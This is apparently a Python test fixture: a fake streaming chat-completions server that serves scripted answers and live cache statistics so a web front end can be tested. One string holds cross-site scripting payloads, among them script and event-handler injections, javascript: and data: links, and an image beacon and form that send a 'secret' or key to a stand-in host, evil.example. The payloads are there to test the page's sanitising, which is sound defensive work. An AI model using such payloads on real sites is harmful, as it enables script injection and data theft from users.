"""Scripted answers and figures that change, behind the real page under its real headers."""

import asyncio
import json
import threading
from collections.abc import AsyncIterator, Iterator
from contextlib import contextmanager
from typing import Any

import uvicorn
from fastapi import FastAPI, Request
from fastapi.responses import JSONResponse, Response, StreamingResponse

from flashmoe.server.app import WEB, page_routes
from flashmoe.server.errors import error_body
from flashmoe.server.security import HEADERS

LAYERS, EXPERTS = 12, 32
MARKDOWN = """\
## A title

Some **bold** words, `code`, and a [link](https://example.com/page).

- one
- two

| place | speed |
|---|---|
| drive | 2 GB/s |

```python
def hit(expert):
    return expert in slots
```

The last paragraph.
"""
HOSTILE = """\
<script>window.harmed = 1</script>
<img src=x onerror="window.harmed = 2">

Text with <b onmouseover="window.harmed = 3">HTML</b> and <iframe src="https://evil.example/"></iframe>.

![picture](https://evil.example/pixel.png?q=secret)

[click](javascript:window.harmed=4) [data](data:text/html,<script>window.harmed=5</script>)

<style>body { display: none }</style>
<form action="https://evil.example/"><input name="key"></form>
<a id="message" href="https://evil.example/" style="position:fixed;inset:0">cover</a>

```html" onmouseover="window.harmed = 6
<svg onload="window.harmed = 7">
```

The end.
"""


class FakeModel:
    """What was asked, and what is answered: the first word of the last question chooses."""

    def __init__(self, api_key: str | None = None) -> None:
        self.api_key = api_key
        self.requests: list[dict[str, Any]] = []
        self.cancelled: list[str] = []  # what was asked by those who did not wait for the end
        self.running = self.pieces = self.looks = 0
        self.app = FastAPI()
        self.app.middleware("http")(self._guard)
        self.app.get("/v1/stats")(self.stats)
        self.app.post("/v1/chat/completions")(self.chat)
        self.app.router.routes.extend(page_routes(WEB))

    async def _guard(self, request: Request, call_next: Any) -> Response:
        given = request.headers.get("authorization", "")
        response: Response
        if self.api_key and request.url.path.startswith("/v1/") and given != f"Bearer {self.api_key}":
            response = JSONResponse(error_body(401, "no key, or another"), 401)
        else:
            response = await call_next(request)
        response.headers.update(HEADERS)
        return response

    async def chat(self, request: Request) -> Response:
        body = await request.json()
        self.requests.append(body)
        question = body["messages"][-1]["content"].split("\n\n")[-1]  # the page joins those without an answer
        word = question.split()[0]
        if word == "busy":
            error = error_body(429, "64 requests wait already", code="queue_full")
            return JSONResponse(error, 429, {"Retry-After": "7"})
        if word == "full":
            message = "the prompt of 9000 tokens is longer than the context of 8192"
            return JSONResponse(error_body(400, message, "messages", "context_length_exceeded"), 400)
        events = self._events(question, len(self.requests))
        return StreamingResponse(events, media_type="text/event-stream")

    async def _events(self, question: str, number: int) -> AsyncIterator[str]:
        word = question.split()[0]
        self.running += 1
        try:
            yield _event({"role": "assistant", "content": ""})
            if question.endswith("silent"):
                await asyncio.Event().wait()  # until nobody waits any more
            for text in self._pieces(word, number):
                self.pieces += 1
                yield _event({"content": text})
                await asyncio.sleep(0.02 if word == "slow" else 0.001)
            if word == "broken":
                return
            if word == "failing":
                yield f"data: {json.dumps(error_body(500, 'the drive gave 3 of 4096 bytes'))}\n\n"
                return
            yield _event({}, finish_reason="stop")
            usage = {"prompt_tokens": 20, "completion_tokens": self.pieces, "total_tokens": 20 + self.pieces,
                     "prompt_tokens_details": {"cached_tokens": 12}}  # fmt: skip
            yield f"data: {json.dumps({'choices': [], 'usage': usage})}\n\ndata: [DONE]\n\n"
        except asyncio.CancelledError:
            self.cancelled.append(question)
            raise
        finally:
            self.running -= 1

    def _pieces(self, word: str, number: int) -> Iterator[str]:
        if word == "slow":
            yield from (f"word{i} " for i in range(3000))
        elif word == "long":
            yield from (f"Paragraph {i} of an answer that is longer than the window.\n\n" for i in range(60))
        elif word == "wide":
            yield "```\n" + "x" * 400 + "\n```\n\n|" + "a long cell|" * 20 + "\n|" + "---|" * 20 + "\n"
            yield "|" + "value|" * 20 + "\n\n" + "y" * 300
        else:
            text = HOSTILE if word == "hostile" else MARKDOWN + f"\nAnswer number {number}."
            yield from (text[i : i + 7] for i in range(0, len(text), 7))

    def stats(self) -> dict[str, Any]:
        """Figures that follow the pieces that went out."""
        self.looks += 1
        at = self.pieces
        rows = [(((1 << 20) - 1) << (at + 3 * layer) % 13) & (1 << EXPERTS) - 1 for layer in range(LAYERS)]
        recent = [
            {"hits": 80 + i % 7, "misses": 16 - i % 7, "bytes": 9 << 20, "tokens": 1, "stall_s": 0.01,
             "step_s": 0.04}
            for i in range(max(0, at - 120), at)
        ]  # fmt: skip
        busy = self.running > 0
        return {
            "model": "fake-moe", "policy": "learned", "uptime_s": 100.0 + at,
            "requests": {"running": self.running, "waiting": 0, "queue_limit": 64,
                         "finished": len(self.requests), "cancelled": len(self.cancelled), "failed": 0},
            "tokens": {"prompt": 20, "cached": 12, "generated": at, "per_s": 24.5 if at else 0.0},
            "cache": {"tier": "RAM", "layers": list(range(LAYERS)), "experts": EXPERTS, "top_k": 8,
                      "slots": 256, "resident": [f"{row:08x}" for row in rows],
                      "hits": 80 * at, "misses": 16 * at,
                      "hit_rate": 0.83 if at else 0.0, "recent": recent},
            "drive": {"mb_per_s": 740.0 if busy else 0.0, "probed_mb_per_s": 2100.0,
                      "bytes_read": at * (9 << 20), "stall_s": at * 0.01},
            "memory": {"rss_bytes": (600 << 20) + at * 1000, "peak_rss_bytes": 690 << 20,
                       "ram_budget_bytes": 712 << 20,
                       "parts": [["process", 350 << 20], ["expert slots", 200 << 20]]},
            "kv": {"tokens_used": 32 + at, "tokens_total": 8192},
        }  # fmt: skip


def _event(delta: dict[str, Any], finish_reason: str | None = None) -> str:
    choice = {"index": 0, "delta": delta, "finish_reason": finish_reason}
    return f"data: {json.dumps({'object': 'chat.completion.chunk', 'choices': [choice]})}\n\n"


@contextmanager
def serving(app: Any) -> Iterator[str]:
    """An application on a port of its own, in a thread; gives its address."""
    config = uvicorn.Config(app, "127.0.0.1", 0, log_level="error", timeout_graceful_shutdown=2)
    server = uvicorn.Server(config)
    ready = threading.Event()
    config.load()
    server.lifespan = config.lifespan_class(config)
    thread = threading.Thread(target=lambda: asyncio.run(_serve(server, ready)), daemon=True)
    thread.start()
    assert ready.wait(30)
    yield f"http://127.0.0.1:{server.servers[0].sockets[0].getsockname()[1]}"
    server.should_exit = True
    thread.join(30)


async def _serve(server: uvicorn.Server, ready: threading.Event) -> None:
    await server.startup()
    ready.set()
    await server.main_loop()
    await server.shutdown()
